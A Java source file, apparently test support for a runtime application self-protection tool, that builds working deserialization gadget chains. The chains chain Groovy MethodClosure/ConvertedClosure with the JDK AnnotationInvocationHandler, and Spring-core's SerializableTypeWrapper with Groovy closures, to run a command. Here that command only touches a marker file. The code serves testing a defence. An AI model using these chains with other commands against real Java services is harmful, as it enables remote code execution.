package io.github.raspspring.carrier.jvm;

import java.lang.reflect.Constructor;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;
import java.lang.reflect.Type;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.atomic.AtomicReference;

/**
 * Streams of objects that run something by proxies whose handlers are part of them. The
 * handler that the JDK has for annotations answers whatever it is given; it can be made
 * here only as the tests open its package.
 */
final class ProxyChains {

	/** What the tests open to put chains together, and old libraries to run at all. */
	static final List<String> OPENED = List.of("--add-opens=java.base/sun.reflect.annotation=ALL-UNNAMED",
			"--add-opens=java.base/java.lang=ALL-UNNAMED", "--add-opens=java.base/java.util=ALL-UNNAMED",
			"--add-opens=java.base/java.io=ALL-UNNAMED", "--add-opens=java.base/java.net=ALL-UNNAMED",
			"--add-opens=java.base/java.text=ALL-UNNAMED", "--add-opens=java.base/java.lang.reflect=ALL-UNNAMED",
			"--add-opens=java.base/java.util.concurrent=ALL-UNNAMED",
			"--add-opens=java.base/java.util.concurrent.atomic=ALL-UNNAMED");

	private static final Libraries GROOVY = Libraries.of("groovy-all");

	private static final Libraries SPRING = Libraries.of("spring-core-4.1.4", "commons-logging-1.2", "groovy-all");

	private ProxyChains() {
	}

	/**
	 * A map whose entries are asked for, which a closure answers by starting a process.
	 */
	static String groovy(Damage damage) throws Exception {
		List<String> command = new ArrayList<>(List.of("touch", damage.marker().toString()));
		Object closure = GROOVY.make("org.codehaus.groovy.runtime.MethodClosure", command, "execute").target();
		Object handler = GROOVY.make("org.codehaus.groovy.runtime.ConvertedClosure", closure, "entrySet").target();
		Object map = Proxy.newProxyInstance(GROOVY.loader(), new Class<?>[] { Map.class }, (InvocationHandler) handler);
		return GadgetChains.write(answering((Map<?, ?>) map));
	}

	static void readGroovy(String input) throws Exception {
		GadgetChains.read(input, GROOVY.loader());
	}

	/**
	 * A type that spring-core asks for again while it is read, and calls a method of what
	 * it gets. Closures of Groovy answer both.
	 */
	static String spring(Damage damage) throws Exception {
		List<String> command = new ArrayList<>(List.of("touch", damage.marker().toString()));
		Object type = closing(new Class<?>[] { Type.class, Callable.class }, command, "execute", "call");
		String wrapper = "org.springframework.core.SerializableTypeWrapper$";
		Class<?> provider = SPRING.load(wrapper + "TypeProvider");
		Object harmless = Proxy.newProxyInstance(SPRING.loader(), new Class<?>[] { provider },
				(proxy, method, arguments) -> String.class);
		Constructor<?> constructor = SPRING.load(wrapper + "MethodInvokeTypeProvider")
			.getDeclaredConstructor(provider, Method.class, int.class);
		constructor.setAccessible(true);
		Object asking = constructor.newInstance(harmless, Object.class.getMethod("hashCode"), 0);
		GadgetChains.set(asking, "provider",
				closing(new Class<?>[] { provider }, new AtomicReference<>(type), "get", "getType"));
		GadgetChains.set(asking, "methodName", "call");
		return GadgetChains.write(asking);
	}

	static void readSpring(String input) throws Exception {
		GadgetChains.read(input, SPRING.loader());
	}

	/** A proxy that answers one of its methods by calling one of an object. */
	private static Object closing(Class<?>[] types, Object target, String called, String method) throws Exception {
		Object closure = SPRING.make("org.codehaus.groovy.runtime.MethodClosure", target, called).target();
		Object handler = SPRING.make("org.codehaus.groovy.runtime.ConvertedClosure", closure, method).target();
		return Proxy.newProxyInstance(SPRING.loader(), types, (InvocationHandler) handler);
	}

	private static InvocationHandler answering(Map<?, ?> answers) throws ReflectiveOperationException {
		Constructor<?> constructor = Class.forName("sun.reflect.annotation.AnnotationInvocationHandler")
			.getDeclaredConstructor(Class.class, Map.class);
		constructor.setAccessible(true);
		return (InvocationHandler) constructor.newInstance(Override.class, answers);
	}

}
